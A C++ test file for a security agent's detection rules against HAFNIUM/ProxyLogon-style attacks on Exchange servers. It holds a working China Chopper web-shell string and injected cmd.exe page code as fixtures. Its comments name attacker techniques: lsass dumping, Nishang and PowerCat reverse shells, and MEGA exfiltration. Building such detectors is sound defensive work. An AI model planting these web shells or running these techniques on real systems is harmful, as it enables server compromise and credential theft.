// Positive fixtures for the rules no real sample covers, each a log of EXCH01 in the layout the
// agent parses (winevent_json Winlogbeat lines, IIS W3C, HttpProxy, ECP, OAB generator), plus the
// web-shell content rule fed by the agent's own FIM source over a folder. Expectations are exact:
// a fixture written for one rule also shows which neighbours fire with it.

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <random>

#include "agent/sources/fim/fim_source.h"
#include "expectations.h"

namespace tripline::correlator::hafnium_test {
namespace {

class PositiveFixtureTest : public ::testing::TestWithParam<Case> {};

TEST_P(PositiveFixtureTest, FiresExactlyTheExpectedRules) {
  const Case& c = GetParam();
  Fired fired = RunFixtures(c.inputs);
  EXPECT_EQ(fired, c.expected) << "fired:" << Describe(fired) << "\nexpected:"
                               << Describe(c.expected);
}

INSTANTIATE_TEST_SUITE_P(Hafnium, PositiveFixtureTest, ::testing::ValuesIn(PositiveFixtureCases()),
                         [](const ::testing::TestParamInfo<Case>& p) { return p.param.name; });

// A folder laid out like an Exchange front end, removed at scope end.
class WebFolder {
 public:
  WebFolder() {
    std::random_device rd;
    root_ = std::filesystem::temp_directory_path() / ("tripline_hafnium_" + std::to_string(rd()));
    std::filesystem::create_directories(root_);
  }
  ~WebFolder() {
    std::error_code ec;
    std::filesystem::remove_all(root_, ec);
  }
  WebFolder(const WebFolder&) = delete;
  WebFolder& operator=(const WebFolder&) = delete;

  void Write(const std::string& relative, const std::string& content) const {
    std::filesystem::path p = root_ / relative;
    std::filesystem::create_directories(p.parent_path());
    std::ofstream(p, std::ios::binary) << content;
  }
  std::string path() const { return root_.string(); }

 private:
  std::filesystem::path root_;
};

// The FIM source's first start with report_existing reports every file as created, with the
// web-shell markers its scanner found: no inotify timing involved.
std::vector<v1::Event> FimEvents(const WebFolder& folder) {
  agent::FimConfig config;
  config.name = "web-folders";
  config.roots = {folder.path()};
  config.include_extensions = {"aspx", "ashx", "asmx", "config"};
  config.baseline_path = folder.path() + ".baseline";
  config.report_existing = true;
  agent::FimIdentity identity{"EXCH01", v1::Host()};
  std::vector<v1::Event> events;
  {
    agent::FimSource source(config, &identity);
    EXPECT_TRUE(source.Start("").ok());
    for (int i = 0; i < 10; ++i) {
      absl::StatusOr<size_t> n = source.Poll(1 << 20, [&](const v1::Event& e) {
        events.push_back(e);
        return absl::OkStatus();
      });
      if (!n.ok() || *n == 0) break;
    }
  }
  std::filesystem::remove(config.baseline_path);
  for (v1::Event& e : events) {
    if (!e.has_event_time()) *e.mutable_event_time() = e.observed_time();
  }
  OnExchangeHost(&events);
  return events;
}

constexpr char kChopperPage[] =
    "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request["
    "\"klk123456\"],\"unsafe\");}</script>\r\n";
constexpr char kPlainPage[] =
    "<%@ Page Language=\"C#\" %>\r\n<html><body>Maintenance until 06:00.</body></html>\r\n";

TEST(WebshellContentTest, FimReportsAChinaChopperPageInTheOwaAuthFolder) {
  WebFolder folder;
  folder.Write("FrontEnd/HttpProxy/owa/auth/ohyeah.aspx", kChopperPage);
  folder.Write("FrontEnd/HttpProxy/owa/auth/logon.aspx", kPlainPage);
  folder.Write("site/maintenance.aspx", kPlainPage);
  std::vector<v1::Event> events = FimEvents(folder);
  ASSERT_EQ(events.size(), 3u);
  Fired fired = CountByRule(RunPack(events));
  // The page with markers raises the content rule; being a new page in owa\auth, it also
  // raises the drop rule. The shipped page name and a page elsewhere raise nothing.
  Fired expected = {{rule::kWebshellMarkers, 1}, {rule::kPageCreatedInWebFolder, 1}};
  EXPECT_EQ(fired, expected) << Describe(fired);
}

TEST(WebshellContentTest, ShellCodeInjectedIntoAShippedPageIsFound) {
  // Volexity: code added to a legitimate page; the name is on the allow-list, the content is not.
  WebFolder folder;
  folder.Write("FrontEnd/HttpProxy/owa/auth/logon.aspx",
               std::string(kPlainPage) + "<script runat=\"server\">void Page_Load(object s, "
                                         "EventArgs e){ var p = new System.Diagnostics."
                                         "ProcessStartInfo(\"cmd.exe\"); }</script>\r\n");
  Fired fired = CountByRule(RunPack(FimEvents(folder)));
  EXPECT_EQ(fired, (Fired{{rule::kWebshellMarkers, 1}})) << Describe(fired);
}

}  // namespace

const std::vector<Case>& PositiveFixtureCases() {
  using namespace rule;  // NOLINT(google-build-using-namespace): the table reads better
  static const std::vector<Case> kCases = {
      // POST /ecp/y.js by python-requests, crawler-disguised POSTs to the themes folder and
      // /ecp/default.flt, and antSword driving a page in aspnet_client (which is also served).
      {"IisProxyLogonRequests", {"positive/iis_proxylogon_requests.w3c.log"},
       {{kIisExploitRequests, 4}, {kUnknownAuthPageServed, 1}}},
      // cs(Cookie) logged: X-BEResource with a back-end path, X-AnonResource-Backend; the first
      // request is also a POST to /owa/auth/x.js.
      {"IisRoutingCookies", {"positive/iis_cookie_ssrf.w3c.log"},
       {{kSsrfRoutingCookie, 2}, {kIisExploitRequests, 1}}},
      // A UNC path and a path that climbs out of ClientAccess\OAB; the OAB Temp file is fine.
      {"OabGeneratorDownloadFailed", {"positive/oab_generator_26858.oab.LOG"},
       {{kOabTempOutsideOab, 2}}},
      // InvalidCastException in the UM worker, the worker starting cmd.exe and writing help.aspx
      // into aspnet_client.
      {"UnifiedMessagingExploitation", {"positive/um_exploitation.jsonl"},
       {{kUmInvalidCast, 1},
        {kUmChildProcess, 1},
        {kUmScriptFileWrite, 1},
        {kPageCreatedInWebFolder, 1}}},
      // China Chopper through MSExchangeOWAAppPool (Sysmon 1), and a 4688 w3wp -> cmd.exe, which
      // carries no parent command line and so reaches the generic web-server rule.
      {"ExchangeWorkerShell", {"positive/exchange_worker_shell.jsonl"},
       {{kExchangeWorkerShell, 1}, {kChopperCommandLine, 1}, {kWebServerShell, 1}}},
      // MSExchange Management: the public PoC's Set-OabVirtualDirectory, the Mailbox Import Export
      // role and a mailbox export.
      {"ManagementCmdlets", {"positive/management_cmdlets.jsonl"},
       {{kVirtualDirectoryUrlTag, 1}, {kImportExportRole, 1}, {kMailboxExportCmdlet, 1}}},
      // procdump -ma lsass and its dump in Windows\Temp; comsvcs MiniDump into aspnet_client.
      {"CredentialAccess", {"positive/credential_access.jsonl"},
       {{kProcdumpLsass, 1}, {kLsassDumpFile, 2}, {kComsvcsMiniDump, 1}}},
      // 7-Zip into C:\ProgramData\it.zip (and the file), makecab of a dump in the web root, RAR
      // of .pst files.
      {"Staging", {"positive/staging.jsonl"},
       {{kArchiveCommandLine, 3}, {kArchiveFileStaged, 1}}},
      {"ExchangeSnapinAndExportCommandLine", {"positive/export_command_line.jsonl"},
       {{kExportCommandLine, 2}}},
      // Nishang one-liner, the same base64-encoded, PowerCat downloaded and started.
      {"ReverseShellTooling", {"positive/reverse_shells.jsonl"}, {{kReverseShellTooling, 3}}},
      // attrib +h +s +r on a page, net group "Exchange Organization administrators" /del, the
      // Winnet scheduled task.
      {"HafniumCommands", {"positive/hafnium_commands.jsonl"}, {{kHafniumCommands, 3}}},
      {"MegaExfiltration", {"positive/mega_exfil.jsonl"}, {{kMega, 1}}},
      // System writing owa\auth\ohyeah.aspx over SMB loopback (public PoC); w3wp writing a page
      // in aspnet_client\system_web.
      {"WebshellDrop", {"positive/webshell_drop.jsonl"}, {{kPageCreatedInWebFolder, 2}}},
  };
  return kCases;
}

const std::vector<std::string>& RulesCoveredByBuiltEvents() {
  // kWebshellMarkers: WebshellContentTest (the FIM source's scan); kNewDestinationUpload:
  // ChainAlertTest.NewDestinationThenALargeUploadToIt (flow records built in the test: no
  // fixture format carries byte counts).
  static const std::vector<std::string> kRules = {rule::kWebshellMarkers,
                                                  rule::kNewDestinationUpload};
  return kRules;
}

}  // namespace tripline::correlator::hafnium_test
